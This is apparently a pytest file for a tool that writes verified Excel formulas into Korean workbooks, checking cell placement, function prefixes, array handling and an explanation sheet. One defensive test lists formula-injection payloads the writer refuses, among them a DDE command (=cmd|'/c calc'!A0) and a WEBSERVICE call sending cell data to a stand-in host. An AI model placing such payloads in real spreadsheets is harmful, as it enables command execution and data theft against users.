"""The workbook with a proved formula: reopened, compared with the original, and calculated again."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.formula import ArrayFormula

from sandbox.checks import check
from sandbox.documents import NOTICE
from sandbox.documents.stored_formula import needs_array, stored
from sandbox.documents.write_proof import warnings_of, write
from sandbox.formulas import ProofJob, find_formulas, normalise, prove
from sandbox.library import parse_exercise, read_answer
from sandbox.records import CheckContext, CheckSpec, DocumentError, State

ROOT = Path(__file__).parent.parent
EXCEL = ROOT / "exercises" / "excel"
BOOK = EXCEL / "price-lookup" / "물품구매요청.xlsx"
LOOKUP = '=XLOOKUP(D2,단가표!$A$2:$A$51,단가표!$E$2:$E$51,"단가 없음")'


def made(formula: str = LOOKUP, **more: Any) -> Any:
    options = {"sheet": "구매요청", "cell": "G2", "fill_to": "G201", "formula": formula} | more
    workbook = options.pop("workbook", BOOK)
    return openpyxl.load_workbook(BytesIO(write(workbook, **options).data))


def words(page: Any) -> list[str]:
    return [str(cell.value) for row in page.iter_rows() for cell in row if cell.value is not None]


# --------------------------------------------------------------------------- the formula in its place


def test_the_formula_is_filled_down_with_its_prefix_and_marked() -> None:
    page = made()["구매요청"]
    assert page["G2"].value == '=_xlfn.XLOOKUP(D2,단가표!$A$2:$A$51,단가표!$E$2:$E$51,"단가 없음")'
    assert page["G201"].value == '=_xlfn.XLOOKUP(D201,단가표!$A$2:$A$51,단가표!$E$2:$E$51,"단가 없음")'
    assert {page[f"G{row}"].data_type for row in range(2, 202)} == {"f"}
    original = openpyxl.load_workbook(BOOK)["구매요청"]
    assert page["G2"].fill.fgColor.rgb != original["G2"].fill.fgColor.rgb
    assert page["G2"].number_format == original["G2"].number_format == "#,##0"
    assert "G2:G201" in page["G2"].comment.text
    assert page["G202"].value is None


def test_every_other_cell_and_sheet_stays_as_it_was() -> None:
    book, original = made(), openpyxl.load_workbook(BOOK)
    assert book.sheetnames == [*original.sheetnames, "설명"]
    assert book.active.title == "구매요청"
    for page in original.worksheets:
        for row in page.iter_rows():
            for cell in row:
                if page.title == "구매요청" and cell.column_letter == "G" and cell.row > 1:
                    continue
                other = book[page.title][cell.coordinate]
                assert (other.value, other.number_format) == (cell.value, cell.number_format), cell.coordinate
        for letter, column in page.column_dimensions.items():
            assert book[page.title].column_dimensions[letter].width == column.width
        assert book[page.title].freeze_panes == page.freeze_panes
    assert book.calculation.fullCalcOnLoad is True


def test_what_is_written_still_proves_when_read_back(tmp_path: Path) -> None:
    """Take the stored formula out of the written file and calculate it in that file."""
    copy = tmp_path / "받은 파일.xlsx"
    place: dict[str, str] = {"sheet": "구매요청", "cell": "G2", "fill_to": "G201"}
    copy.write_bytes(write(BOOK, formula=LOOKUP, **place).data)
    taken = openpyxl.load_workbook(copy)["구매요청"]["G2"].value
    reference = '=IFERROR(VLOOKUP(D2,단가표!$A$2:$E$51,5,FALSE),"단가 없음")'
    assert prove(ProofJob(copy, formula=normalise(taken), reference=reference, **place)).proved
    short = taken.replace("$51", "$40")
    assert not prove(ProofJob(copy, formula=normalise(short), reference=reference, **place)).proved


def test_values_that_give_way_are_told() -> None:
    told = write(BOOK, sheet="구매요청", cell="F2", fill_to="F4", formula="=1+A2").warnings
    assert told == ("값이 들어 있는 3칸은 수식으로 바뀝니다.",)
    assert warnings_of(BOOK, sheet="구매요청", cell="F2", fill_to="F4") == told
    assert warnings_of(BOOK, sheet="구매요청", cell="G2", fill_to="G201") == ()
    assert write(BOOK, sheet="구매요청", cell="G2", formula="=F2*2").warnings == ()


def test_a_spilling_formula_is_put_once_over_its_cells() -> None:
    page = made("=UNIQUE(C2:C201)", spills=True, cell="J2", fill_to="J11")["구매요청"]
    assert isinstance(page["J2"].value, ArrayFormula)
    assert (page["J2"].value.ref, page["J2"].value.text) == ("J2:J11", "=_xlfn.UNIQUE(C2:C201)")
    assert page["J3"].value is None


def test_a_comparison_of_whole_ranges_is_kept_whole() -> None:
    page = made("=SUM((단가표!$A$2:$A$51=D2)*단가표!$E$2:$E$51)", fill_to="G3")["구매요청"]
    assert isinstance(page["G3"].value, ArrayFormula)
    assert page["G3"].value.ref == "G3"
    assert page["G3"].value.text == "=SUM((단가표!$A$2:$A$51=D3)*단가표!$E$2:$E$51)"


# --------------------------------------------------------------------------- prefixes


@pytest.mark.parametrize(
    ("plain", "kept"),
    [
        ("=SUMIFS(A:A,B:B,C1)", "=SUMIFS(A:A,B:B,C1)"),
        ("=WORKDAY.INTL(A1,3)", "=WORKDAY.INTL(A1,3)"),
        ("=ifs(A1>1,2)", "=_xlfn.IFS(A1>1,2)"),
        ('=IF(A1="IFS(",IFNA(B1,0),1)', '=IF(A1="IFS(",_xlfn.IFNA(B1,0),1)'),
        ("=FILTER(A1:A9,B1:B9=1)", "=_xlfn._xlws.FILTER(A1:A9,B1:B9=1)"),
        ("=SORT(UNIQUE(A1:A9))", "=_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))"),
        ("=RANK.EQ(A1,$A$1:$A$9)", "=_xlfn.RANK.EQ(A1,$A$1:$A$9)"),
        ('=TEXTBEFORE(TEXTAFTER(C2,"("),")")', '=_xlfn.TEXTBEFORE(_xlfn.TEXTAFTER(C2,"("),")")'),
        ("=LET(합,SUM(A1:A9),합/2)", "=_xlfn.LET(_xlpm.합,SUM(A1:A9),_xlpm.합/2)"),
        (
            '=LET(t,TRIM(D2),tt,LEN(t),IF(tt>0,t&"t",""))',
            '=_xlfn.LET(_xlpm.t,TRIM(D2),_xlpm.tt,LEN(_xlpm.t),IF(_xlpm.tt>0,_xlpm.t&"t",""))',
        ),
        (
            "=REDUCE(0,A1:A3,LAMBDA(a,b,a+b))",
            "=_xlfn.REDUCE(0,A1:A3,_xlfn.LAMBDA(_xlpm.a,_xlpm.b,_xlpm.a+_xlpm.b))",
        ),
    ],
)
def test_newer_functions_get_the_prefix_a_file_needs(plain: str, kept: str) -> None:
    assert stored(plain) == kept


@pytest.mark.parametrize(
    ("formula", "wanted"),
    [
        ("=SUMIFS($E:$E,$C:$C,A2)", False),
        ('=COUNTIFS($A$2:$A$9,A2,$D$2:$D$9,">"&D2)+1', False),
        ("=SUMPRODUCT(($A$2:$A$9=A2)*($D$2:$D$9>D2))+1", False),
        ('=IFERROR(INDEX(시설!$A$2:$A$9,MATCH(C2,시설!$D$2:$D$9,0)),"2:3=4")', False),
        ("=SUM(($A$2:$A$9=A2)*1)", True),
        ("=SUM(--(시설!$A$2:$A$9=A2))", True),
        ("=MATCH(1,(C2:C9=A2)*(D2:D9=B2),0)", True),
        ("=SUMPRODUCT(IF(A2:A9>3,1,0))", True),
        ("=SUM(LEN(A2:A9))", True),
        ("=LOOKUP(2,1/(A2:A9=D2),B2:B9)", True),
    ],
)
def test_array_evaluation_is_asked_for_only_where_it_matters(formula: str, wanted: bool) -> None:
    assert needs_array(formula) is wanted


# --------------------------------------------------------------------------- nothing else may run


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A0",
        '=HYPERLINK("http://x",A1)',
        '=WEBSERVICE("http://x?"&A1)',
        "='[다른 파일.xlsx]시트'!A1",
        "='\\\\server\\share\\[a.xlsx]b'!A1",
        '=1+IF(A1,RTD("a",,"b"),0)',
        "안녕하세요",
        "=",
        "",
        "=A1\n=B1",
        "=" + "A1+" * 4000 + "1",
    ],
)
def test_a_formula_that_reaches_out_is_refused(formula: str) -> None:
    with pytest.raises(DocumentError) as caught:
        made(formula)
    assert caught.value.remedy


def test_the_words_of_an_answer_never_become_formulas() -> None:
    answer = (
        f'```\n{LOOKUP}\n```\n=HYPERLINK("http://x","눌러") 라고 적습니다.\n'
        "- =1+1\n@SUM(A1)\n+82-0\n| 칸 | 뜻 |\n|---|---|\n| =A1 | -1+2 |\n\x07끝"
    )
    book = made(explanation=answer, proved_on="=보이는 자료", notice="=알림 & 초안")
    page = book["설명"]
    told = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in told} == {"s"}
    assert all(cell.quotePrefix for cell in told if str(cell.value)[:1] in "=+-@")
    text = "\n".join(words(page))
    assert "눌러" in text and "\x07" not in text
    assert text.count("XLOOKUP(") == 1  # the code block is not told twice
    formulas = {
        cell.coordinate for row in book["구매요청"].iter_rows() for cell in row if cell.data_type == "f"
    }
    assert formulas == {f"G{row}" for row in range(2, 202)}


def test_the_explanation_says_what_where_on_which_data_and_by_whom() -> None:
    book = made(explanation="단가표에서 번호를 찾습니다.", proved_on="600칸을 계산해 모두 맞았습니다.")
    text = words(book["설명"])
    for wanted in (LOOKUP, "단가표에서 번호를 찾습니다.", "600칸을 계산해 모두 맞았습니다.", NOTICE):
        assert wanted in text
    assert any("「구매요청」" in line and "G2:G201" in line for line in text)
    assert (book.properties.description, NOTICE in book["설명"].oddFooter.center.text) == (NOTICE, True)
    assert NOTICE in book["구매요청"].oddFooter.center.text  # the data sheets are printed too
    assert "AI" in book.properties.keywords
    assert any("확인하지 않았습니다" in line for line in words(made()["설명"]))


def test_a_workbook_that_has_such_a_sheet_keeps_its_own(tmp_path: Path) -> None:
    own = tmp_path / "설명이 있는 파일.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "설명"
    book.active["A1"] = "원래 설명"
    book.save(own)
    again = made("=LEN(A1)", workbook=own, sheet="설명", cell="B1", fill_to="")
    assert again.sheetnames == ["설명", "설명 (2)"]
    assert again["설명"]["A1"].value == "원래 설명"


@pytest.mark.parametrize(
    "wrong",
    [
        {"sheet": "없는 시트"},
        {"cell": "둘째 칸"},
        {"cell": "G2", "fill_to": "A1"},
        {"cell": "A1", "fill_to": "ZZ9999"},
        {"workbook": ROOT / "README.md"},
        {"workbook": ROOT / "없음.xlsx"},
    ],
)
def test_a_place_that_is_not_there_is_told_in_korean(wrong: dict[str, Any]) -> None:
    with pytest.raises(DocumentError) as caught:
        made(**wrong)
    assert any("가" <= letter <= "힣" for letter in caught.value.message + caught.value.remedy)


def test_merged_cells_are_not_torn(tmp_path: Path) -> None:
    own = tmp_path / "병합.xlsx"
    book = openpyxl.Workbook()
    book.active.title = "표"
    book.active.merge_cells("B2:B3")
    book.save(own)
    with pytest.raises(DocumentError, match="합쳐진 칸"):
        made("=A2", workbook=own, sheet="표", cell="B2", fill_to="B4")


# --------------------------------------------------------------------------- from a check to the file


def test_a_passed_check_and_its_answer_give_all_that_is_needed() -> None:
    """The way the screen goes: the verdict's evidence points at the proved formula in the answer."""
    answer = read_answer(
        (BOOK.parent / "answers" / "model.md").read_text(encoding="utf-8"), source="model"
    ).text
    params = {
        "workbook": BOOK.name,
        "sheet": "구매요청",
        "cell": "G2",
        "fill_to": "G201",
        "reference": find_formulas(answer)[0],
    }
    spec = CheckSpec("value", "formula", "맞나요?", params)
    text = "처음 생각은 `=VLOOKUP(D2,단가표!A2:E51,2)` 였습니다.\n" + answer
    verdict = check(spec, CheckContext(answer=text, files={BOOK.name: BOOK}))
    assert verdict.state is State.PASS
    place = next(e for e in verdict.evidence if e.text.startswith("확인한 수식") and e.start >= 0)
    book = made(normalise(text[place.start : place.end]), explanation=text, proved_on=verdict.summary)
    assert book["구매요청"]["G3"].value == '=IFERROR(VLOOKUP(D3,단가표!$A$2:$E$51,5,FALSE),"단가 없음")'
    assert verdict.summary in words(book["설명"])


EXERCISES = sorted(path.parent for path in EXCEL.glob("*/exercise.md"))


@pytest.mark.parametrize("folder", EXERCISES, ids=lambda folder: folder.name)
def test_every_excel_exercise_can_be_taken_home(folder: Path) -> None:
    exercise = parse_exercise(folder)
    spec = next(spec for spec in exercise.checks if spec.kind == "formula")
    formula = find_formulas(exercise.model_answer.text)[0]
    place = {key: spec.params.get(key, "") for key in ("sheet", "cell", "fill_to")}
    workbook = folder / spec.params["workbook"]
    book = made(formula, workbook=workbook, explanation=exercise.model_answer.text, **place)
    assert normalise(str(book[place["sheet"]][place["cell"]].value)) == formula
    assert book.sheetnames == [*openpyxl.load_workbook(workbook).sheetnames, "설명"]
    assert formula in words(book["설명"])
